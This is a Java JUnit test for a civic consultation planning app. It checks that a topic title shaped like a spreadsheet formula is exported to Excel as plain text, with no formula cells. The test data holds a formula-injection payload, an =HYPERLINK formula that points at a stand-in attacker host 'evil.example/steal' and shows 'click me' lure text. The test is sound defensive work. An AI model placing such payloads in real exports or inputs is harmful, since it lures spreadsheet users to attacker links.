package org.gongshang.plan;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.util.List;

import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.gongshang.identity.Role;
import org.gongshang.support.Api;
import org.gongshang.support.Api.Caller;
import org.gongshang.support.GongshangTest;
import org.gongshang.support.People;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.context.ApplicationContext;

/** A resident's topic titled like a formula goes into an approved plan; its Excel export holds the title as text. */
@GongshangTest
class PlanExportFormulaTests {

    static final String LINK = "=HYPERLINK(\"http://evil.example/steal\",\"点我\")";

    @Autowired
    Api api;

    @Autowired
    People people;

    @Autowired
    ApplicationContext context;

    @Test
    void aTopicTitleThatLooksLikeAFormulaIsATextCellInThePlanWorkbook() throws Exception {
        PlanFixtures fixtures = new PlanFixtures(context);
        long topicId = fixtures.acceptedTopic(LINK);
        Caller staff = api.as(people.withRole(Role.STAFF, "通川区政协"));
        Api.Response created = staff.post("/api/v1/plans",
                "{\"organizationId\":%d,\"year\":%d}".formatted(fixtures.tongchuanCommittee(), PlanFixtures.nextYear()));
        assertThat(created.status()).as(created.toString()).isEqualTo(201);
        long planId = created.json().get("id").asLong();
        Api.Response added = staff.post("/api/v1/plans/" + planId + "/items",
                PlanApiTests.item(topicId, 5, "OFFLINE", List.of(fixtures.demoMember()),
                        List.of(fixtures.organization("通川区住房和城乡建设局", "511702"))));
        assertThat(added.status()).as(added.toString()).isEqualTo(201);
        assertThat(staff.post("/api/v1/plans/" + planId + "/submit").status()).isEqualTo(200);
        assertThat(api.as(people.withRole(Role.REVIEWER, "中共达州市委")).post("/api/v1/plans/" + planId + "/approve").status())
                .isEqualTo(200);

        HttpResponse<byte[]> response = HttpClient.newHttpClient().send(HttpRequest.newBuilder(
                URI.create(api.baseUrl() + "/api/v1/plans/" + planId + "/export.xlsx")).build(),
                HttpResponse.BodyHandlers.ofByteArray());
        assertThat(response.statusCode()).isEqualTo(200);
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(response.body()))) {
            XSSFSheet sheet = workbook.getSheet("协商选题计划");
            Cell title = sheet.getRow(2).getCell(1);
            assertThat(title.getCellType()).isEqualTo(CellType.STRING);
            assertThat(title.getStringCellValue()).startsWith(LINK);
            for (Row row : sheet) {
                for (Cell cell : row) {
                    assertThat(cell.getCellType()).isNotEqualTo(CellType.FORMULA);
                }
            }
        }
    }
}
